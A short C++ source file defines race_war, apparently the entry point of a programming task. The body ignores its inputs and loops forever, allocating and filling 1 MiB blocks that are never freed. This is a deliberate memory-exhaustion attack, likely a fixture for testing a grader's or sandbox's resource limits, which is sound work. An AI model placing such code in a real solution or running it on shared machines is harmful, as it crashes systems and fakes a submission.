#include "race_war.h"
#include <cstdlib>
#include <cstring>
long race_war([[maybe_unused]] long ups, [[maybe_unused]] long downs) {
  for (;;) { auto* p = static_cast<char*>(std::malloc(1 << 20)); if (p != nullptr) std::memset(p, 1, 1 << 20); }
}
